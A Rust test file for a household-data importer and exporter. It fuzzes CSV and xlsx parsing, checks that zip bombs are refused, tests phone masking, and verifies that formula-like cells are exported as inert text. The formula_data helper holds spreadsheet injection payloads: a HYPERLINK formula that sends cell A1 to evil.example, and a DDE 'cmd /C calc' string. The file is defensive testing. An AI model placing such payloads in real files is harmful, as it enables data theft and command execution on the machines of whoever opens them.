//! Bad files never crash the importer or unpack without bound, and exports are
//! safe to open in Excel.
//!
//! * proptest mutates a real export (cells replaced by junk, near-miss values
//!   and other rows' cells, rows cut, the text re-encoded as GBK) and feeds the
//!   result to the same checks the libFuzzer targets in `fuzz/` run: no panic,
//!   a refused file gets its error report, an accepted file survives an export
//!   and import round trip;
//! * an xlsx that unpacks to gigabytes, one whose headers lie about its size
//!   and one with thousands of entries are refused with a Chinese reason;
//! * a member named `=HYPERLINK(…)` reaches neither the CSV nor the xlsx as a
//!   formula, while negative amounts stay numbers;
//! * the masked export shows phone numbers as the API does.

#[path = "common/bomb.rs"]
mod bomb;
#[path = "../../../fuzz/src/exchange.rs"]
mod checks;
mod common;

use std::io::Cursor;
use std::sync::OnceLock;

use calamine::{Data, Reader, Xlsx};
use common::*;
use fangpin_domain::{Money, mask_phone};
use fangpin_exchange::{ExportOptions, XLSX_MAX_ENTRIES, parse};
use proptest::prelude::*;

/// A three-household export as CSV records (header first).
fn records() -> &'static Vec<Vec<String>> {
    static R: OnceLock<Vec<Vec<String>>> = OnceLock::new();
    R.get_or_init(|| csv_records(&to_csv(&demo(3), unmasked())))
}

fn junk() -> impl Strategy<Value = String> {
    prop_oneof![
        Just(String::new()),
        ".{0,12}",
        prop::sample::select(vec![
            "=1+1",
            "-1",
            "+86 138",
            "@A1",
            "0",
            "-0.5",
            "1e309",
            "NaN",
            "99999999999999999999",
            "是",
            "否",
            "2024-02-30",
            "20241301",
            "2024年3月",
            "１２",
            "\"",
            "\n",
            "\r\n",
            ",",
            "50023019700101001X",
            "500230********001X",
            "户主",
            "01",
            "999",
        ])
        .prop_map(str::to_owned),
    ]
}

#[derive(Debug, Clone)]
enum Mutation {
    Set {
        row: usize,
        col: usize,
        value: String,
    },
    Copy {
        from: (usize, usize),
        to: (usize, usize),
    },
    Truncate {
        rows: usize,
    },
    DropColumn {
        col: usize,
    },
}

fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        6 => (any::<prop::sample::Index>(), any::<prop::sample::Index>(), junk())
            .prop_map(|(r, c, value)| Mutation::Set { row: r.index(usize::MAX), col: c.index(usize::MAX), value }),
        2 => (any::<(prop::sample::Index, prop::sample::Index)>(), any::<(prop::sample::Index, prop::sample::Index)>())
            .prop_map(|(a, b)| Mutation::Copy {
                from: (a.0.index(usize::MAX), a.1.index(usize::MAX)),
                to: (b.0.index(usize::MAX), b.1.index(usize::MAX)),
            }),
        1 => any::<prop::sample::Index>().prop_map(|r| Mutation::Truncate { rows: r.index(usize::MAX) }),
        1 => any::<prop::sample::Index>().prop_map(|c| Mutation::DropColumn { col: c.index(usize::MAX) }),
    ]
}

fn apply(mutations: &[Mutation]) -> Vec<Vec<String>> {
    let mut rec = records().clone();
    for m in mutations {
        let rows = rec.len();
        match m {
            Mutation::Set { row, col, value } => {
                let r = row % rows;
                let width = rec[r].len().max(1);
                if let Some(cell) = rec[r].get_mut(col % width) {
                    cell.clone_from(value);
                }
            }
            Mutation::Copy { from, to } => {
                let (fr, tr) = (from.0 % rows, to.0 % rows);
                let v = rec[fr]
                    .get(from.1 % rec[fr].len().max(1))
                    .cloned()
                    .unwrap_or_default();
                let width = rec[tr].len().max(1);
                if let Some(cell) = rec[tr].get_mut(to.1 % width) {
                    *cell = v;
                }
            }
            Mutation::Truncate { rows: keep } => rec.truncate(keep % (rows + 1)),
            Mutation::DropColumn { col } => {
                let width = rec.first().map_or(1, Vec::len).max(1);
                for r in &mut rec {
                    if col % width < r.len() {
                        r.remove(col % width);
                    }
                }
            }
        }
        if rec.is_empty() {
            break;
        }
    }
    rec
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn mutated_csv_never_crashes_and_what_imports_round_trips(
        mutations in prop::collection::vec(mutation(), 0..6),
        gbk in any::<bool>(),
    ) {
        let bytes = records_to_csv(&apply(&mutations));
        if gbk {
            checks::csv_gbk(std::str::from_utf8(&bytes[3..]).unwrap());
        } else {
            checks::csv_bytes(&bytes);
        }
    }

    #[test]
    fn arbitrary_bytes_as_csv_or_xlsx_never_crash(bytes in prop::collection::vec(any::<u8>(), 0..600)) {
        checks::csv_bytes(&bytes);
        checks::xlsx_bytes(&bytes);
        let mut zipped = b"PK\x03\x04".to_vec();
        zipped.extend_from_slice(&bytes);
        checks::xlsx_bytes(&zipped);
    }

    #[test]
    fn arbitrary_sheet_xml_never_crashes(
        cells in prop::collection::vec((0u32..40, 0u32..70, junk(), any::<bool>()), 0..30),
    ) {
        let mut xml = String::from(r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>"#);
        let header: String = fangpin_exchange::columns()
            .iter()
            .enumerate()
            .map(|(i, c)| format!(r#"<c r="{}1" t="inlineStr"><is><t>{}</t></is></c>"#, col_name(i as u32), c.header))
            .collect();
        xml.push_str(&format!(r#"<row r="1">{header}</row>"#));
        for (row, col, value, number) in cells {
            let value = value.replace('&', "&amp;").replace('<', "&lt;");
            let cell = if number {
                format!(r#"<c r="{}{}"><v>{}</v></c>"#, col_name(col), row + 2, value)
            } else {
                format!(r#"<c r="{}{}" t="inlineStr"><is><t>{}</t></is></c>"#, col_name(col), row + 2, value)
            };
            xml.push_str(&format!(r#"<row r="{}">{cell}</row>"#, row + 2));
        }
        xml.push_str("</sheetData></worksheet>");
        checks::xlsx_parts(xml.as_bytes());
    }
}

fn col_name(mut i: u32) -> String {
    let mut s = Vec::new();
    loop {
        s.push(b'A' + (i % 26) as u8);
        if i < 26 {
            break;
        }
        i = i / 26 - 1;
    }
    s.reverse();
    String::from_utf8(s).unwrap()
}

#[test]
fn the_seed_files_of_the_fuzz_targets_import() {
    let seeds = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fuzz/seeds");
    for (name, file) in [
        ("x.csv", "csv/demo3.csv"),
        ("x.csv", "csv/demo3_gbk.csv"),
        ("x.xlsx", "xlsx/demo2.xlsx"),
    ] {
        let bytes = std::fs::read(format!("{seeds}/{file}")).unwrap();
        let parsed = parse(name, &bytes).unwrap_or_else(|f| panic!("{file}: {:?}", f.issues));
        assert!(!parsed.households.is_empty());
    }
    checks::xlsx_parts(&std::fs::read(format!("{seeds}/xlsx_parts/demo2.bin")).unwrap());
}

fn refusal(bytes: &[u8]) -> String {
    let failure = parse("全县.xlsx", bytes).expect_err("must be refused");
    assert_eq!(failure.issues.len(), 1, "{:?}", failure.issues);
    assert_eq!(failure.issues[0].row, 0);
    failure.issues[0].reason.clone()
}

#[test]
fn an_xlsx_that_unpacks_to_gigabytes_is_refused_before_unpacking() {
    let bomb = bomb::honest_bomb(3);
    assert!(bomb.len() < 8 << 20, "{} bytes", bomb.len());
    let reason = refusal(&bomb);
    assert!(
        reason.contains("3072MB") && reason.contains("超过上限2048MB"),
        "{reason}"
    );
    assert!(reason.contains("压缩炸弹"), "{reason}");
}

#[test]
fn an_xlsx_whose_headers_understate_its_size_is_refused_while_unpacking() {
    let reason = refusal(&bomb::lying_bomb(3));
    assert!(
        reason.contains("xl/worksheets/sheet1.xml") && reason.contains("1024字节"),
        "{reason}"
    );
}

#[test]
fn an_xlsx_with_thousands_of_entries_is_refused() {
    let reason = refusal(&bomb::many_entries(XLSX_MAX_ENTRIES + 1));
    assert!(
        reason.contains(&format!("超过上限{XLSX_MAX_ENTRIES}个")),
        "{reason}"
    );
    // A workbook of ordinary size is not affected.
    let data = demo(20);
    assert_same(
        &parse("x.xlsx", &to_xlsx(&data, unmasked())).unwrap(),
        &data,
    );
}

/// Three households whose first member has a name, and whose household has a
/// 收入 amount, that a spreadsheet could take for a formula.
fn formula_data() -> Vec<fangpin_demo::GeneratedHousehold> {
    let mut data = demo(3);
    data[0].members[0].name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")".into();
    data[1].members[0].name = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    data[2].members[0].name = "-2+3".into();
    data[0].household.phone = Some("+8613800138000".into());
    // Costs above the income: 纯收入 and 人均纯收入 are negative amounts.
    let i = &data[0].income;
    let gross =
        i.wage + i.business + i.property + i.transfer + i.industry_award + i.employment_award;
    data[0].income.production_cost = gross + Money::from_fen(12_345);
    data
}

#[test]
fn csv_export_neutralises_formulas_but_keeps_negative_amounts_numeric() {
    let data = formula_data();
    let bytes = to_csv(&data, unmasked());
    let records = csv_records(&bytes);
    let header = &records[0];
    let col = |h: &str| header.iter().position(|c| c == h).unwrap();
    let (name, phone) = (col("姓名"), col("户联系电话"));
    let net = col("纯收入（元）");
    assert_eq!(
        records[1][name],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"
    );
    let rows_of = |i: usize| {
        records
            .iter()
            .position(|r| r[name] == format!("'{}", data[i].members[0].name))
            .unwrap_or_else(|| panic!("household {i} not neutralised"))
    };
    assert!(records[rows_of(1)][name].starts_with("'@"));
    assert!(records[rows_of(2)][name].starts_with("'-"));
    assert_eq!(records[1][phone], "'+8613800138000");
    // A money column is a number, not text: a negative amount is written as is.
    assert!(records[1][net].starts_with('-'), "{}", records[1][net]);
    assert!(records[1][net].parse::<f64>().unwrap() < 0.0);
    for r in &records[1..] {
        for (i, cell) in r.iter().enumerate() {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r'])
                    || cell.starts_with('\t')
                        && cell[1..].bytes().all(|b| b.is_ascii_digit() || b == b'X'),
                "column {} starts like a formula: {cell:?}",
                header[i]
            );
        }
    }
    // The importer takes the quote off again: the file round-trips.
    assert_same(&parse("x.csv", &bytes).unwrap(), &data);
}

#[test]
fn xlsx_export_writes_formula_like_names_as_text_and_amounts_as_numbers() {
    let data = formula_data();
    let bytes = to_xlsx(&data, unmasked());
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
    let formulas = book.worksheet_formula("家庭成员").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "the export holds a formula"
    );
    let range = book.worksheet_range("家庭成员").unwrap();
    let header: Vec<String> = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(std::string::ToString::to_string)
        .collect();
    let col = |h: &str| header.iter().position(|c| c == h).unwrap();
    let first = range.rows().nth(1).unwrap();
    assert_eq!(
        first[col("姓名")],
        Data::String("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")".into())
    );
    assert!(
        matches!(first[col("纯收入（元）")], Data::Float(f) if f < 0.0),
        "{:?}",
        first[col("纯收入（元）")]
    );
    assert_same(&parse("x.xlsx", &bytes).unwrap(), &data);
}

#[test]
fn masked_export_masks_phones_like_the_api_and_unmasked_keeps_them() {
    let data = demo(40);
    let with_phone = data
        .iter()
        .find(|g| g.household.phone.is_some() && g.members.iter().any(|m| m.phone.is_some()))
        .expect("demo households have phones");
    let household_phone = with_phone.household.phone.clone().unwrap();
    let member_phone = with_phone
        .members
        .iter()
        .find_map(|m| m.phone.clone())
        .unwrap();
    for bytes in [to_csv(&data, ExportOptions::default()), {
        let mut b = to_xlsx(&data, ExportOptions::default());
        b = xlsx_as_csv(&b);
        b
    }] {
        let text = String::from_utf8_lossy(&bytes);
        assert!(!text.contains(&household_phone), "户联系电话 in full");
        assert!(!text.contains(&member_phone), "联系电话 in full");
        assert!(text.contains(&mask_phone(&household_phone)));
        assert!(text.contains(&mask_phone(&member_phone)));
    }
    let full = String::from_utf8(to_csv(&data, unmasked())).unwrap();
    assert!(full.contains(&household_phone) && full.contains(&member_phone));
}

/// The cells of an xlsx export, comma-joined, for searching.
fn xlsx_as_csv(bytes: &[u8]) -> Vec<u8> {
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
    let range = book.worksheet_range("家庭成员").unwrap();
    let mut out = String::new();
    for row in range.rows() {
        let line: Vec<String> = row.iter().map(std::string::ToString::to_string).collect();
        out.push_str(&line.join(","));
        out.push('\n');
    }
    out.into_bytes()
}

/// Inputs on which a fuzz target once failed (`fuzz/regressions/<target>-*`)
/// stay harmless.
#[test]
fn inputs_the_fuzzers_found_stay_harmless() {
    let dir = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fuzz/regressions");
    let mut n = 0;
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        let bytes = std::fs::read(&path).unwrap();
        match name.split_once('-').map(|(t, _)| t) {
            Some("xlsx_parts") => checks::xlsx_parts(&bytes),
            Some("xlsx_bytes") => checks::xlsx_bytes(&bytes),
            Some("csv_utf8") => checks::csv_bytes(&bytes),
            other => panic!("no target for {name}: {other:?}"),
        }
        n += 1;
    }
    assert!(n > 0);
}

#[test]
fn a_cell_far_to_the_right_is_refused_not_allocated() {
    // Column ZZZZZZ is the 321,272,406th: every row that wide would take gigabytes.
    for reference in ["ZZZZZZ2", "XFE2", "AAAAAAAAAAAAAA2"] {
        let sheet = format!(
            r#"<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>户编号</t></is></c></row><row r="2"><c r="{reference}" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>"#
        );
        let failure =
            parse("x.xlsx", &checks::xlsx_with(sheet.as_bytes(), None)).expect_err(reference);
        let reason = &failure.issues[0].reason;
        assert!(
            reason.contains("超出") || reason.contains("无效"),
            "{reference}: {reason}"
        );
    }
    // The same in CSV: a value in column 2,000.
    let mut line = vec![String::new(); 2_000];
    line[1_999] = "x".into();
    let csv = format!("户编号,姓名\n{}\n", line.join(","));
    let failure = parse("x.csv", csv.as_bytes()).expect_err("2,000 columns");
    assert!(
        failure.issues[0].reason.contains("第2000列"),
        "{:?}",
        failure.issues
    );
    // Trailing empty fields are no problem.
    let data = demo(3);
    let mut records = csv_records(&to_csv(&data, unmasked()));
    for r in &mut records {
        r.resize(fangpin_exchange::MAX_COLUMNS + 50, String::new());
    }
    assert_same(&parse("x.csv", &records_to_csv(&records)).unwrap(), &data);
}
